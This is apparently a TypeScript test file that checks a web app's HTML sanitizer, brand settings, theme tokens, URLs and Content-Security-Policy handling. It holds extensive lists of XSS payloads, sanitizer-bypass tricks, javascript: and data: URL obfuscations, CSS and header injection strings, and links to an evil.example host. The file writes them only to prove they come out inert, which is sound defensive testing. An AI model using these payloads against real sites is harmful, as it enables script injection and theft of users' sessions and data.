import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, expect, test } from 'vitest'

import { createSiteApp } from '#server/shell/app.ts'
import { cleanHtml } from '#server/publishing/content/html.ts'
import { mountSitePages } from '#server/publishing/pages/open.ts'
import { type TestServer, openTestServer } from '#test/pg/test-server.ts'

import { WIDE_OPEN } from './attack.ts'
import { inertText } from './inert-text.ts'

let server: TestServer
let site: FastifyInstance

beforeAll(async () => {
  server = await openTestServer({ settings: WIDE_OPEN })
  site = await createSiteApp(server.services, mountSitePages)
  await site.ready()
})
afterAll(async () => {
  await site.close()
  await server.close()
})

const get = (url: string, headers: Record<string, string> = {}) =>
  site.inject({ url, headers: { host: server.host, ...headers } })

/** Hostile announcement texts, among them known tricks against sanitizers. */
const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u0000>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<option><p title="</option><img src=x onerror=alert(1)>"></option>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example>',
  '<style>@import "https://evil.example";*{background:url(https://evil.example)}</style>',
  '<p style="background:url(https://evil.example);position:fixed;inset:0">x</p>',
  '<p class="wrap" id="site" data-x=1 name="alive">x</p>',
  '<a id="page-data" name="page-data" href="https://x.example">x</a>',
  '<form action="https://evil.example"><input name=token><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="java&#x73;cript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="&#14;javascript:alert(1)">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https://x.example" target=_top onclick=alert(1) rel=opener ping="https://evil.example" download>x</a>',
  '<a href="https://x.example" rel="opener">x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  '<a href=x onmouseover="alert(1)"style="x">x</a>',
  '<a href="https://x.example/"onclick="alert(1)">x</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<custom-element onclick=alert(1)>',
  '<p is="x-evil">x</p>',
  '</div></body></html><script>alert(1)</script>',
  `${'<blockquote>'.repeat(500)}<img src=x onerror=alert(1)>`,
  `${'<b>'.repeat(3_000)}x`,
  '<a href="https://x.example/%0d%0a<script>">x</a>',
  '<\u212aimg src=x onerror=alert(1)>',
  '<\u017fcript>alert(1)</\u017fcript>',
  '<img src=x onerror=alert(1)',
  '<a href="https://x.example',
  '\ud800<img src=x onerror=alert(1)>\udfff',
]

function expectInert(html: string, what: string): void {
  expect(inertText.test(html), `${what} left ${html.slice(0, 200)}`).toBe(true)
  for (const [, href = ''] of html.matchAll(/href="([^"]*)"/g)) {
    const to = new URL(href.replaceAll('&amp;', '&'), 'https://own.example')
    expect(['https:', 'mailto:'], what).toContain(to.protocol)
    expect(to.host, what).not.toContain('evil')
    expect(href, what).not.toMatch(/&(?!(?:amp|lt|gt|quot);)/)
  }
}

test('whatever is written into an announcement is inert, and stays so when it is cleaned again', () => {
  for (const vector of vectors) {
    const clean = cleanHtml(vector)
    expectInert(clean, vector.slice(0, 80))
    // The second run also drops the attributes of a link without a target.
    expect(cleanHtml(clean)).toBe(clean.replaceAll('<a rel="noopener noreferrer nofollow">', '<a>'))
    // Simulates a browser that parses the output and serializes it again.
    expectInert(cleanHtml(`<p>${vector}</p>${vector}`), vector.slice(0, 80))
  }
})

/** Inserts a row directly, bypassing validation on write. */
async function layIn(kind: string, document: object): Promise<bigint> {
  const [row] = await server.asOwner<{ id: bigint }>(
    `INSERT INTO content_entry (merchant_id, kind, published, published_at)
     VALUES ($1, $2, $3, now() - interval '1 minute') RETURNING id`,
    [server.merchantId, kind, JSON.stringify(document)],
  )
  if (!row) throw new Error('no row')
  return row.id
}

test('a row that came by another way than ours is inert on the wire and on the page', async () => {
  const content = vectors
    .map((one) => one.replaceAll('\u0000', '').toWellFormed())
    .filter((one) => one.length < 500)
  const title = '</script><script>alert("title")</script><img src=x onerror=alert(2)>'
  await layIn('announcement', { words: { EN: { title, content: content.join('\n') } }, facts: { type: 'B' } })
  const answer = await get('/wps/relay/MCSFE_getListAnnouncements')
  const { list } = answer.json<{ value: { list: { content: string }[] } }>().value
  expect(list).toHaveLength(1)
  expectInert(list[0]?.content ?? '', 'the answer')
  for (const path of ['/index', '/noticePage']) expectPageUnharmed((await get(path)).body)
})

/** Expects only the page's own scripts, and no tag from operators' texts. */
function expectPageUnharmed(body: string): void {
  const scripts = [...body.matchAll(/<script\b[^>]*>/gi)].map(([tag]) => tag)
  expect(scripts).toHaveLength(2)
  expect(scripts.filter((tag) => tag.includes('src='))).toEqual([])
  const [, program = ''] = / data-program="([^"]*)"/.exec(scripts.at(-1) ?? '') ?? []
  expect(program).toMatch(/^\/assets\/[\w-]+\.js$/)
  expect(body.match(/<\/script>/gi)).toHaveLength(2)
  expect(body).not.toMatch(/<img[^>]+onerror|<svg[^>]+onload|<iframe|<base\b|http-equiv|javascript:/i)
  expect(body.match(/<\/style>/gi)?.length).toBe(body.match(/<style\b/gi)?.length)
}

const evilWords = [
  '</script><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"onmouseover="alert(1)',
  "'><svg onload=alert(1)>",
  '<!--<script>',
  ']]><script>',
  '\u2028alert(1)\u2029',
  '{{constructor.constructor("alert(1)")()}}',
  '{name, select, other {<script>}}',
  '<0>x</0>',
  '\u202eevil',
]
const evilTokens = [
  'red;}</style><script>alert(1)</script>',
  'oklch(0.5 0.1 100);background:url(https://evil.example)',
  'url(https://evil.example/x.png)',
  'oklch(0.5 0.1 100)}*{display:none',
  'expression(alert(1))',
  'var(--x)',
  '\\75rl(https://evil.example)',
  '/**/oklch(0.5 0.1 100)/**/',
  'oklch(0.5 0.1 100)\n@import "https://evil.example"',
  '<!--evil',
]

async function change(columns: Record<string, unknown>): Promise<void> {
  const names = Object.keys(columns)
  await server.asOwner(
    `UPDATE merchant SET ${names.map((name, place) => `${name} = $${place + 2}`).join(', ')} WHERE id = $1`,
    [server.merchantId, ...Object.values(columns)],
  )
  await server.services.registry.refresh()
}

test('words of a brand become text on its pages, and never anything else', async () => {
  const ids = ['shell.footer_text', 'home.title', 'shell.register', 'closed.maintenance_title']
  for (const words of evilWords) {
    await change({
      name: words.slice(0, 60),
      copy: JSON.stringify({
        EN: {
          ...Object.fromEntries(ids.map((id) => [id, words])),
          __proto__: words,
          constructor: words,
          [words]: words,
        },
        [words]: { 'home.title': words },
        __proto__: { 'home.title': words },
      }),
      currency_symbol: words.slice(0, 6),
    })
    for (const path of ['/index', '/noticePage', '/lost']) {
      const answer = await get(path)
      expect([words, path, answer.statusCode]).toEqual([words, path, path === '/lost' ? 404 : 200])
      expectPageUnharmed(answer.body)
    }
    const manifest = await get('/manifest.webmanifest')
    expect(manifest.json()).toMatchObject({ name: words.slice(0, 60), start_url: '/index', scope: '/' })
    expect(Object.keys(manifest.json<object>())).not.toContain('alert(1)')
  }
  await change({ name: 'sample', copy: '{}', currency_symbol: '¥' })
})

test('colours of a brand become colours, and never another rule', async () => {
  for (const token of evilTokens) {
    await change({
      theme: JSON.stringify({
        light: {
          primary: token,
          'font-text': token,
          r1: token,
          [token]: 'oklch(0.5 0.1 100)',
          __proto__: token,
        },
        dark: { primary: token, scrim: token },
        [token]: { primary: token },
      }),
      brand: 'tessera',
    })
    const page = await get('/index')
    expect(page.statusCode).toBe(200)
    expectPageUnharmed(page.body)
    expect(page.body).not.toContain('evil.example')
    expect(page.body).not.toContain(token)
    for (const path of ['/favicon.svg', '/brand/mark.svg', '/manifest.webmanifest']) {
      const picture = await get(path)
      expect([path, picture.statusCode]).toEqual([path, 200])
      expect(picture.body).not.toContain(token)
      expect(picture.body).not.toMatch(/<script|evil|@import/i)
    }
  }
  await change({ theme: '{}' })
})

const evilUrls = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'http://evil.example',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  'https://',
  'https://evil.example"onclick="alert(1)',
  "https://evil.example'><script>",
  'https://evil.example <script>',
  'vbscript:x',
  'ftp://evil.example',
]

test('an address that runs code or misleads is left out of the pages’ data', async () => {
  for (const url of evilUrls) {
    await change({ customer_service_url: url })
    await server.asOwner('DELETE FROM resource WHERE merchant_id = $1', [server.merchantId])
    await server.asOwner(
      `INSERT INTO resource (merchant_id, resource_type, url, label_name_en) VALUES ($1, 'app', $2, '<script>alert(1)</script>')`,
      [server.merchantId, url],
    )
    await server.services.registry.refresh()
    const { value } = (await get('/wps/system/status')).json<{
      value: { customerService: object; resources: object[] }
    }>()
    expect([url, value.customerService, value.resources]).toEqual([url, {}, []])
    expectPageUnharmed((await get('/index')).body)
  }
  await change({ customer_service_url: null })
})

test('an origin of the brand goes into the policy as an origin, and cannot loosen it', async () => {
  const plain = String((await get('/index')).headers['content-security-policy'])
  const evil = [
    "https://cdn.example; script-src 'unsafe-inline'",
    "https://cdn.example 'unsafe-inline'",
    'https://cdn.example,https://evil.example',
    'https://cdn.example/path',
    'https://*',
    '*',
    "'unsafe-eval'",
    'data:',
    'https:',
    'javascript:alert(1)',
    'https://cdn.example\r\nset-cookie: x=1',
    'https://cdn.example\u0020*',
    'https://user@cdn.example',
  ]
  await change({ image_cdns: evil, launch_game_cdns: evil })
  const answer = await get('/index')
  expect(answer.statusCode).toBe(200)
  expect(answer.headers['content-security-policy']).toBe(plain)
  expect(answer.headers['set-cookie']).toBeUndefined()
  await change({ image_cdns: ['https://cdn.example'], launch_game_cdns: ['https://games.example:444'] })
  const policy = String((await get('/index')).headers['content-security-policy'])
  expect(policy).toBe(
    plain
      .replace("img-src 'self' data:", "img-src 'self' data: https://cdn.example")
      .replace("frame-src 'none'", 'frame-src https://games.example:444'),
  )
})

test('a banner leads into our own site or nowhere', async () => {
  const targets = [
    ...evilUrls,
    '/index#x',
    '/a b',
    '/%0d%0aset-cookie:x',
    '/../..//evil.example',
    '/x\u0000'.replace('\u0000', '\u0001'),
  ]
  for (const [place, target] of targets.entries()) {
    const id = await layIn('banner', {
      words: { EN: { title: '<img src=x onerror=alert(1)>', text: '', button: '' } },
      facts: {
        group: 'promotions',
        artCategory: '<script>',
        artTitle: '<script>',
        link: { type: place % 2 === 0 ? 'page' : 'outside', target },
      },
    })
    const { list } = (await get('/wps/content/banners?groupName=promotions')).json<{
      value: { list: { bannerId: string; target?: string }[] }
    }>().value
    const stored = list.find((one) => one.bannerId === String(id))?.target
    if (stored !== undefined) expect(new URL(stored, 'https://own.example').host, target).toBe('own.example')
    expectPageUnharmed((await get('/promotions')).body)
    expect((await get(`/art/banner/${id}/1/ltr.svg`)).statusCode).toBe(404)
    await server.asOwner('DELETE FROM content_entry WHERE id = $1', [id])
  }
})
